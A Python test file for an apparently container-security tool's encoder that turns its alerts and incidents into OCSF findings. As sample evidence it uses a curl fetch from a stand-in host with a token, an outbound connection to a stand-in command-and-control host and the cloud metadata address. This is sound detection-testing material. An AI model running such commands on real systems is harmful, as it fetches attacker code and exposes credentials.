"""Proves what an OCSF consumer gets: https://schema.ocsf.io/1.9.0/classes/detection_finding"""

from typing import Any

import msgspec
import pytest
from sample_alerts import behaviour, docker_alert, kubernetes_alert, suspicious_alert, withdrawn_alert
from sample_incidents import INCIDENTS, docker_incident, pods_incident, withdrawn_incident
from sample_outputs import ALERTS, containers, golden, samples, summaries

from tidewaiter import __version__
from tidewaiter.alert import Alert, CreatedBy, ImageIdentity, PulledBy
from tidewaiter.sinks.ocsf import encode


def finding(alert: Alert) -> dict[str, Any]:
    """What a consumer reads."""
    read = msgspec.json.decode(encode(alert))
    assert isinstance(read, dict)
    return read


def changed(**fields: object) -> Alert:
    """The Docker alert with other fields."""
    alert: Alert = msgspec.structs.replace(docker_alert(), **fields)
    return alert


def test_golden() -> None:
    """The findings receivers build on; UPDATE_GOLDEN=1 rewrites the file."""
    text = b"".join(encode(output) for output in samples().values()).decode("utf-8")
    golden("findings.jsonl", text.replace(f'"version":"{__version__}"', '"version":"VERSION"'))


def test_only_alerts_and_incidents_are_findings() -> None:
    assert {encode(container) for container in containers()} == {b""}
    assert {encode(summary) for summary in summaries().values()} == {b""}


@pytest.mark.parametrize("name", sorted(ALERTS))
def test_required_attributes(name: str) -> None:
    """What the class requires, with the ids that the class fixes."""
    read = finding(ALERTS[name]())
    assert (read["class_uid"], read["category_uid"]) == (2004, 2)
    assert read["type_uid"] == 200_400 + read["activity_id"]
    assert read["metadata"]["version"] == "1.9.0"
    assert read["metadata"]["product"] == {
        "name": "tidewaiter",
        "vendor_name": "tidewaiter",
        "version": __version__,
    }
    assert read["finding_info"]["uid"]
    assert isinstance(read["time"], int)
    assert read["severity_id"] in range(1, 6)


@pytest.mark.parametrize("name", sorted(ALERTS))
def test_unknown_is_left_out(name: str) -> None:
    """OCSF has no nulls: an attribute that is not known is not there. `unmapped` keeps the alert's own shape."""

    def nulls(value: object, path: str) -> list[str]:
        if isinstance(value, dict):
            return [found for key, inner in value.items() for found in nulls(inner, f"{path}.{key}")]
        if isinstance(value, list):
            return [found for place, inner in enumerate(value) for found in nulls(inner, f"{path}[{place}]")]
        return [path] if value is None else []

    read = finding(ALERTS[name]())
    del read["unmapped"]
    assert nulls(read, "") == []


def test_times_are_milliseconds() -> None:
    read = finding(docker_alert())
    assert read["time"] == 1_790_000_019_400
    assert (read["start_time"], read["end_time"]) == (1_790_000_000_000, 1_790_000_021_000)


def test_severity_and_confidence() -> None:
    read = finding(kubernetes_alert())
    assert (read["severity_id"], read["severity"]) == (5, "Critical")
    assert (read["confidence_id"], read["confidence"]) == (2, "Medium")


def test_analytic_and_technique() -> None:
    """T1204.003 is a sub-technique, and OCSF sets it beside its technique."""
    info = finding(docker_alert())["finding_info"]
    assert info["analytic"]["uid"] == "AN0691"
    assert info["analytic"]["type_id"] == 2
    assert info["attacks"] == [
        {
            "technique": {"uid": "T1204", "name": "User Execution"},
            "sub_technique": {"uid": "T1204.003", "name": "Malicious Image"},
            "tactic": {"uid": "TA0002", "name": "Execution"},
        }
    ]


def test_technique_of_another_analytic_has_its_id_only() -> None:
    info = finding(changed(analytic="AN9999", technique="T1610"))["finding_info"]
    assert info["attacks"] == [{"technique": {"uid": "T1610"}}]
    assert info["analytic"]["name"] == "AN9999"


class TestLifecycle:
    def test_first_record_creates_a_new_finding(self) -> None:
        read = finding(docker_alert())
        assert (read["activity_id"], read["status_id"], read["is_alert"]) == (1, 1, True)

    def test_revision_updates_and_leaves_the_status_to_the_consumer(self) -> None:
        read = finding(kubernetes_alert())
        assert (read["activity_id"], read.get("status_id")) == (2, None)
        assert read["metadata"]["sequence"] == 3

    def test_withdrawn_closes(self) -> None:
        """`Deleted` is OCSF's word for a finding that was created in error."""
        read = finding(withdrawn_alert())
        assert (read["activity_id"], read["status_id"], read["status"], read["is_alert"]) == (3, 6, "Deleted", False)
        assert read["status_detail"].startswith("withdrawn; trust: trusted")
        assert read["time"] == read["end_time"]

    def test_revisions_are_events_of_one_finding(self) -> None:
        first, last = finding(docker_alert()), finding(withdrawn_alert())
        assert first["finding_info"]["uid"] == last["finding_info"]["uid"]
        assert first["metadata"]["uid"] != last["metadata"]["uid"]

    def test_suspicious_is_no_alert(self) -> None:
        read = finding(suspicious_alert())
        assert (read["is_alert"], read["finding_info"]["types"]) == (False, ["suspicious"])

    def test_incident_correlates(self) -> None:
        assert finding(docker_alert())["metadata"]["correlation_uid"] == docker_alert().incident


class TestEvidences:
    def test_exec_is_a_process(self) -> None:
        shown = next(e for e in finding(docker_alert())["evidences"] if e["name"] == "exec")
        assert shown["process"]["cmd_line"] == "/usr/bin/curl -fsSL http://203.0.113.7/x --token ***"
        assert shown["process"]["name"] == "curl"
        assert len(shown["process"]["uid"]) == 32
        assert (shown["data"]["source"], shown["data"]["record"]) == ("falco", "f.jsonl:4")

    @pytest.mark.parametrize(
        ("what", "endpoint"),
        [
            ("203.0.113.7:80", {"ip": "203.0.113.7", "port": 80}),
            ("[2001:db8::5]:443", {"ip": "2001:db8::5", "port": 443}),
            ("203.0.113.7", {"ip": "203.0.113.7"}),
            ("[2001:db8::5]", {"ip": "2001:db8::5"}),
            ("2001:db8::5", {"ip": "2001:db8::5"}),
            ("203.0.113.7:80 (refused)", {"ip": "203.0.113.7", "port": 80}),
            ("203.0.113.7:99999", {"ip": "203.0.113.7"}),
            ("nowhere:80", None),
            ("", None),
        ],
    )
    def test_egress_is_an_endpoint(self, what: str, endpoint: dict[str, object] | None) -> None:
        """`ADDR:PORT`, with IPv6 in brackets; what is no address stays in `data`."""
        reached = behaviour(1, what, "egress", protocol="tcp")
        shown = finding(changed(behaviours=(reached,)))["evidences"][-1]
        assert shown.get("dst_endpoint") == endpoint
        assert shown["data"]["what"] == what

    def test_egress_names_host_and_protocol(self) -> None:
        shown = next(e for e in finding(kubernetes_alert())["evidences"] if "hostname" in e.get("dst_endpoint", {}))
        assert shown["dst_endpoint"] == {"ip": "2001:db8:bad::5", "port": 443, "hostname": "pool.c2.example"}
        assert shown["connection_info"] == {"direction_id": 2, "direction": "Outbound", "protocol_name": "tcp"}

    def test_every_evidence_names_the_container_and_its_image(self) -> None:
        shown = [e for e in finding(docker_alert())["evidences"] if e["name"] == "pull"]
        assert shown[0]["container"]["image"]["uid"] == docker_alert().image.config_digest

    def test_image_without_a_config_digest_is_only_a_resource(self) -> None:
        """The schema asks for an image's uid; a name is none."""
        read = finding(changed(image=ImageIdentity(reference="x:1")))
        assert all("image" not in e.get("container", {}) for e in read["evidences"])
        assert read["resources"][1] == {"name": "x:1", "type": "container image", "role_id": 4, "role": "Related"}

    def test_unnamed_container_is_left_out(self) -> None:
        """The schema asks for an id or a name."""
        read = finding(changed(container_id=None, container_name=None))
        assert all("container" not in e for e in read["evidences"])
        assert [resource["type"] for resource in read["resources"]] == ["container image"]

    def test_who_created_and_who_pulled(self) -> None:
        shown = {e["name"]: e for e in finding(kubernetes_alert())["evidences"]}
        assert shown["created by"]["actor"]["user"]["name"] == "jane@corp.example"
        assert shown["created by"]["src_endpoint"] == {"ip": "198.51.100.4"}
        assert shown["pulled by"]["http_request"] == {"user_agent": "containerd/v1.7.22"}

    def test_nobody_is_no_evidence(self) -> None:
        read = finding(changed(pulled_by=PulledBy(), created_by=CreatedBy(via="docker")))
        assert {"created by", "pulled by"}.isdisjoint(e["name"] for e in read["evidences"])


class TestObservables:
    @pytest.mark.parametrize("name", sorted(ALERTS))
    def test_point_to_what_they_copy(self, name: str) -> None:
        """`name` is the path to an attribute whose value is `value`; an object has none."""
        read = finding(ALERTS[name]())
        for observable in read["observables"]:
            value: Any = read
            for step in observable["name"].replace("[", ".").replace("]", "").split("."):
                value = value[int(step)] if isinstance(value, list) else value[step]
            assert observable.get("value", value) == value

    def test_are_listed_once(self) -> None:
        listed = [(o["type_id"], o.get("value")) for o in finding(kubernetes_alert())["observables"]]
        assert len(listed) == len(set(listed))
        assert (2, "169.254.169.254") in listed


def test_rest_is_unmapped() -> None:
    """Nothing of an alert is lost on the way."""
    rest = finding(kubernetes_alert())["unmapped"]["tidewaiter"]
    assert rest["digest_consistency"] == "by_name"
    assert rest["trust"]["rule"] == "squatters"
    assert rest["behaviours_omitted"] == 1204
    assert rest["missing"]


class TestIncident:
    """https://schema.ocsf.io/1.9.0/classes/incident_finding"""

    @pytest.mark.parametrize("name", sorted(INCIDENTS))
    def test_required_attributes(self, name: str) -> None:
        read = msgspec.json.decode(encode(INCIDENTS[name]()))
        assert (read["class_uid"], read["category_uid"]) == (2005, 2)
        assert read["type_uid"] == 200_500 + read["activity_id"]
        assert read["metadata"]["profiles"] == ["incident"]
        assert all(found["uid"] and found["analytic"] for found in read["finding_info_list"])
        assert isinstance(read["time"], int)
        assert read["severity_id"] in range(1, 6)

    def test_its_alerts_are_its_findings(self) -> None:
        """Under the uid of their own Detection Finding, and they name it."""
        incident = pods_incident()
        read = msgspec.json.decode(encode(incident))
        assert [found["uid"] for found in read["finding_info_list"]] == [member.alert for member in incident.members]
        assert read["metadata"]["correlation_uid"] == incident.id
        assert (read["start_time"], read["end_time"]) == (1_790_000_019_400, 1_790_000_979_400)
        assert {found["value"] for found in read["observables"]} == {incident.image.config_digest, incident.created_by}

    def test_lifecycle(self) -> None:
        first = msgspec.structs.replace(docker_incident(), revision=0)
        told = [msgspec.json.decode(encode(record)) for record in (first, docker_incident(), withdrawn_incident())]
        assert [(read["activity_id"], read["status_id"]) for read in told] == [(1, 1), (2, 0), (3, 5)]
        assert len({read["metadata"]["uid"] for read in told}) == 3
